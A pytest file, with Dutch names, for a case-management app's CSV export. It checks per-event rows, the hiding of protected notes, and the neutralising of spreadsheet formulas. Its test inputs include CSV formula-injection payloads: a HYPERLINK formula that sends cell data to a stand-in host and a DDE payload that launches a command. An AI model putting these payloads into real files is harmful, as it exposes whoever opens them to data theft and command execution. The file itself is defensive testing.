"""The CSV export: a spreadsheet row per event, and no formula can run from it."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from cases import services
from cases.exports.csvbestand import KOLOMMEN, onschadelijk
from cases.models import Bestuursproces, Gebeurtenis
from tests.factories import GebruikerFactory, actor_voor

from .conftest import GEHEIMEN, exporteer

VIJANDIG = [
    '=HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rijen(inhoud: bytes) -> list[list[str]]:
    assert inhoud.startswith("\ufeff".encode())
    tekst = inhoud.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(tekst, newline=""), delimiter=";"))


@pytest.mark.parametrize("waarde", [*VIJANDIG, "gewoon", "", None, 12])
def test_onschadelijk(waarde: Any) -> None:
    tekst = onschadelijk(waarde)

    if isinstance(waarde, str) and waarde[:1] in {"=", "+", "-", "@", "\t", "\r"}:
        assert tekst == "'" + waarde
    else:
        assert tekst == ("" if waarde is None else str(waarde))


def test_een_rij_per_gebeurtenis(dossier: Bestuursproces) -> None:
    kop, *data = rijen(exporteer(dossier, "csv", "procesregisseur"))
    opgeslagen = list(Gebeurtenis.objects.filter(bestuursproces=dossier).order_by("volgnummer"))

    assert kop == KOLOMMEN
    assert [int(r[0]) for r in data] == [g.volgnummer for g in opgeslagen]
    eerste = dict(zip(KOLOMMEN, data[0], strict=True))
    assert eerste["type"] == "bestuursproces.geopend"
    assert eerste["typeOmschrijving"] == "Bestuursproces geopend"
    assert eerste["hash"] == opgeslagen[0].hash
    assert eerste["afgeschermd"] == "nee"
    assert eerste["payload"].startswith('{"bestuursproces":{')


def test_afgeschermd_voor_de_evaluator(dossier: Bestuursproces) -> None:
    inhoud = exporteer(dossier, "csv", "evaluator")
    _, *data = rijen(inhoud)
    notitie = next(dict(zip(KOLOMMEN, r, strict=True)) for r in data if r[1] == "notitie.gemaakt")

    assert notitie["afgeschermd"] == "ja"
    assert notitie["payload"] == '{"afgeschermd":true,"zichtbaarheid":"regisseur"}'
    assert not any(geheim.encode() in inhoud for geheim in GEHEIMEN)


def test_vijandige_tekst_wordt_geen_formule(dossier: Bestuursproces, regisseur: Any) -> None:
    kwaad: Any = GebruikerFactory(username="-kwaad", first_name="=1+1", last_name="Kwaad")
    services.voeg_lid_toe(
        actor=actor_voor(regisseur), bestuursproces=dossier, gebruiker=kwaad, rol="kernteam"
    )
    for tekst in VIJANDIG:
        dossier.refresh_from_db()
        services.maak_notitie(
            actor=actor_voor(kwaad), bestuursproces=dossier, tekst=tekst, zichtbaarheid="proces"
        )
        services.wijzig_stadium(
            actor=actor_voor(regisseur),
            bestuursproces=dossier,
            naar="voorstelbaar" if dossier.stadium == "houdbaar" else "houdbaar",
            toelichting=tekst,
            forceren=True,
        )

    _, *data = rijen(exporteer(dossier, "csv"))

    cellen = [cel for rij in data for cel in rij]
    assert not [cel for cel in cellen if cel[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    toelichtingen = [dict(zip(KOLOMMEN, r, strict=True))["toelichting"] for r in data]
    assert all("'" + tekst in toelichtingen for tekst in VIJANDIG)
    acteurs = {dict(zip(KOLOMMEN, r, strict=True))["actor"] for r in data}
    assert "'-kwaad" in acteurs
    namen = {dict(zip(KOLOMMEN, r, strict=True))["actorNaam"] for r in data}
    assert "'=1+1 Kwaad" in namen
